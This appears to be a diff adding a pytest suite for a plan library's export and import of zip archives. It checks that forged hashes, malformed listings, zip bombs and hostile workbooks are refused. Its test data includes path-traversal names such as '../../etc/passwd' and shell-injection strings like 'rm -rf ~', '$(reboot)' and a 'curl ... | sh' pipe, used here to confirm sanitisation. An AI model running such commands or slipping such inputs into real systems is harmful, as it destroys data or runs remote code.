@@ -1,0 +1,233 @@
+"""Kept plans as a file: it brings back everything, and takes in nothing that was changed, forged or too large."""
+
+import io
+import json
+import zipfile
+from collections.abc import Callable
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from planner import plan_json
+from planner.library import Book, DamagedError, Entry, Library, Packed, Retention, open_library, pack, unpack
+from planner.options import Options
+from planner.plan import Plan
+from planner.solve import solve
+from planner.workbook import read
+
+SETTINGS = {"grid": "phases", "sets": []}
+
+
+@pytest.fixture
+def entry(library: Library, plan: Plan, book: Book) -> Entry:
+    entry = library.save("ana", "First plan", plan, book, SETTINGS, "for the meeting")
+    return library.rename("ana", entry.id, "Second name")
+
+
+@pytest.fixture
+def data(library: Library, entry: Entry) -> bytes:
+    return library.export("ana", [entry.id])
+
+
+def changed(data: bytes, change: Callable[[dict[str, bytes]], None]) -> bytes:
+    """The same file with other content."""
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        files = {name: archive.read(name) for name in archive.namelist()}
+    change(files)
+    stream = io.BytesIO()
+    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, content in files.items():
+            archive.writestr(name, content)
+    return stream.getvalue()
+
+
+def relisted(data: bytes, change: Callable[[dict[str, Any]], Any]) -> bytes:
+    """The same file with another list."""
+
+    def work(files: dict[str, bytes]) -> None:
+        said = json.loads(files["library.json"])
+        change(said)
+        files["library.json"] = json.dumps(said).encode()
+
+    return changed(data, work)
+
+
+def test_76_an_export_brings_everything_to_another_library(
+    data: bytes, entry: Entry, plan: Plan, book: Book, tmp_path: Path
+) -> None:
+    other = open_library(str(tmp_path / "other.sqlite"), Retention())
+    added, there = other.add("Bea", unpack(data))
+    assert (len(added), there) == (1, 0)
+    found = other.get("bea", added[0].id)
+    assert (found.entry.name, found.entry.note, found.entry.owner) == ("Second name", "for the meeting", "bea")
+    assert found.entry.settings == {**SETTINGS, "imported": True, "remake": ""}
+    assert found.entry.results == entry.results
+    assert (found.book, plan_json.dumps(found.plan)) == (book, plan_json.dumps(plan))
+    assert other.history("bea", found.entry.id)[0].before.startswith("kept by ana since 20")
+    assert other.add("bea", unpack(data)) == ([], 1)
+    other.close()
+
+
+def test_an_export_tells_its_history_and_is_the_same_twice(library: Library, data: bytes, entry: Entry) -> None:
+    (packed,) = unpack(data)
+    assert [(e.who, e.what, e.before, e.after) for e in packed.history] == [
+        ("ana", "saved", "", "First plan"), ("ana", "renamed", "First plan", "Second name"),
+    ]  # fmt: skip
+    assert packed.history[0].at == library.history("ana", entry.id)[0].at
+    assert library.export("ana", [entry.id]) == data
+
+
+def test_a_workbook_of_several_plans_is_in_it_once(library: Library, entry: Entry) -> None:
+    copy = library.duplicate("ana", entry.id)
+    with zipfile.ZipFile(io.BytesIO(library.export("ana", [entry.id, copy.id]))) as archive:
+        assert len(archive.namelist()) == 3
+    assert len(unpack(library.export("ana", [entry.id, copy.id]))) == 2
+
+
+def test_a_plan_with_changes_belongs_to_its_workbook_with_those_changes(
+    library: Library, starter: Path, book: Book, data: bytes
+) -> None:
+    sets = ("Appropriations!asylum budget / P1.Amount=*1.2",)
+    plan = solve(read(starter, sets=sets), Options(grid="phases"))
+    assert plan.record.input_sha256 != book.sha256
+    entry = library.save("ana", "More money", plan, book, {"sets": sets})
+    packed = unpack(library.export("ana", [entry.id]))
+    assert len(library.add("bea", packed)[0]) == 1
+    wrong = replace(plan, record=replace(plan.record, changes=("Appropriations!asylum budget / P1.Amount=*1.3",)))
+    forged = Packed(replace(packed[0].kept, plan=wrong), ())
+    with pytest.raises(Exception, match="not made from this workbook"):
+        library.add("cyd", [forged])
+    assert library.listed("cyd") == []
+
+
+def _forge_plan(files: dict[str, bytes]) -> None:
+    name = next(n for n in files if n.startswith("plans/"))
+    files[name] = files[name].replace(b'"objective": ', b'"objective": 1')
+
+
+def _forge_book(files: dict[str, bytes]) -> None:
+    name = next(n for n in files if n.startswith("workbooks/"))
+    files[name] += b"x"
+
+
+@pytest.mark.parametrize(
+    ("change", "said"),
+    [
+        (_forge_plan, "changed after it was written"),
+        (_forge_book, "changed after it was written"),
+        (lambda files: files.update({"../../etc/passwd": b"x"}), "holds files that no export holds"),
+        (lambda files: files.update({"plans/../x.json": b"x"}), "holds files that no export holds"),
+        (lambda files: files.pop("library.json"), "list of plans cannot be read"),
+        (lambda files: files.update({"library.json": b"[" * 200_000}), "list of plans cannot be read"),
+        (lambda files: files.update({"library.json": b'{"format": "other"}'}), "does not call itself"),
+        (lambda files: files.pop(next(n for n in files if n.startswith("plans/"))), "list of plans cannot be read"),
+        (lambda files: files.pop(next(n for n in files if n.startswith("workb"))), "list of plans cannot be read"),
+    ],
+)
+def test_a_file_that_was_changed_is_refused(data: bytes, change: Callable[[dict[str, bytes]], None], said: str) -> None:
+    with pytest.raises(DamagedError, match=said):
+        unpack(changed(data, change))
+
+
+@pytest.mark.parametrize(
+    ("change", "said"),
+    [
+        (lambda said: said["entries"][0].update(name="a\0b"), "invisible control character"),
+        (lambda said: said["entries"][0].update(name="x" * 10_000), "at most 200"),
+        (lambda said: said["entries"][0].update(settings=[1]), "list of plans cannot be read"),
+        (lambda said: said["entries"][0].update(made_at="yesterday"), "list of plans cannot be read"),
+        (lambda said: said["entries"][0].update(plan_sha256="../../x"), "list of plans cannot be read"),
+        (lambda said: said["entries"][0].pop("history"), "list of plans cannot be read"),
+        (lambda said: said.update(entries=7), "list of plans cannot be read"),
+    ],
+)
+def test_a_list_that_makes_no_sense_is_refused(data: bytes, change: Callable[[dict[str, Any]], Any], said: str) -> None:
+    with pytest.raises(DamagedError, match=said):
+        unpack(relisted(data, change))
+
+
+def test_what_the_list_says_of_a_plan_is_not_believed(library: Library, data: bytes) -> None:
+    boast = relisted(data, lambda said: said["entries"][0]["results"].update(objective=1e12, gap=0.0))
+    assert unpack(boast)[0].kept.entry.results["objective"] != 1e12
+    (entry,), _ = library.add("bea", unpack(boast))
+    assert entry.results["objective"] == library.get("bea", entry.id).plan.objective
+
+
+@pytest.mark.parametrize("junk", [b"", b"PK", b"no zip at all", b"PK\x03\x04" + b"\0" * 500])
+def test_junk_is_refused(junk: bytes) -> None:
+    with pytest.raises(DamagedError, match="no zip file"):
+        unpack(junk)
+
+
+def test_a_cut_file_is_refused(data: bytes) -> None:
+    for part in (0.2, 0.6, 0.99):
+        with pytest.raises(DamagedError):
+            unpack(data[: int(len(data) * part)])
+
+
+def test_a_bomb_is_refused_before_it_unpacks() -> None:
+    stream = io.BytesIO()
+    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("library.json", b" " * 60_000_000)
+    with pytest.raises(DamagedError, match="larger than 50 MB"):
+        unpack(stream.getvalue())
+    with pytest.raises(DamagedError, match="unpacks to more than 40 MB"):
+        unpack(stream.getvalue(), most=40_000_000)
+
+
+def test_a_bomb_that_lies_about_its_size_is_refused() -> None:
+    stream = io.BytesIO()
+    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("library.json", b" " * 60_000_000)
+    honest = (60_000_000).to_bytes(4, "little")
+    with pytest.raises(DamagedError):
+        unpack(stream.getvalue().replace(honest, (100).to_bytes(4, "little")))
+
+
+def test_a_hostile_workbook_in_a_file_is_refused(data: bytes, book: Book) -> None:
+    """One with a cell at the far end of the sheet, under its right hash."""
+    stream = io.BytesIO()
+    with zipfile.ZipFile(stream, "w") as archive:
+        archive.writestr("[Content_Types].xml", "<Types/>")
+        archive.writestr("xl/workbook.xml", "<workbook/>")
+        archive.writestr("xl/worksheets/sheet1.xml", '<sheetData><row><c r="XFD1048576"/></row></sheetData>')
+    hostile = Book(stream.getvalue(), "far.xlsx")
+
+    def change(files: dict[str, bytes]) -> None:
+        del files[f"workbooks/{book.sha256}.xlsx"]
+        files[f"workbooks/{hostile.sha256}.xlsx"] = hostile.content
+        files["library.json"] = files["library.json"].replace(book.sha256.encode(), hostile.sha256.encode())
+
+    with pytest.raises(DamagedError, match="XFD1048576"):
+        unpack(changed(data, change))
+
+
+def test_nothing_is_an_export_of_nothing() -> None:
+    assert unpack(pack([])) == []
+
+
+def test_an_imported_plan_counts_as_unchecked(library: Library, plan: Plan, book: Book) -> None:
+    entry = library.save("ana", "Checked", replace(plan, verified=True), book, {})
+    packed = unpack(library.export("ana", [entry.id]))
+    (taken,), _ = library.add("bea", packed)
+    assert library.get("bea", taken.id).plan.verified is None
+    assert library.add("bea", packed) == ([], 1)
+    assert library.get("ana", entry.id).plan.verified is True
+
+
+@pytest.mark.parametrize(
+    ("given", "kept"),
+    [
+        ("planner front 'my case.xlsx' \\\n  --outcome a", "planner front 'my case.xlsx' --outcome a"),
+        ("planner solve x.xlsx; rm -rf ~", "planner solve 'x.xlsx;' rm -rf '~'"),
+        ("planner $(reboot)", "planner '$(reboot)'"),
+        ("curl http://example.org | sh", ""),
+        ("planner 'unclosed", ""),
+        ("", ""),
+    ],
+)
+def test_a_command_in_a_file_cannot_do_anything_else(data: bytes, given: str, kept: str) -> None:
+    said = relisted(data, lambda said: said["entries"][0]["settings"].update(remake=given))
+    assert unpack(said)[0].kept.entry.settings["remake"] == kept
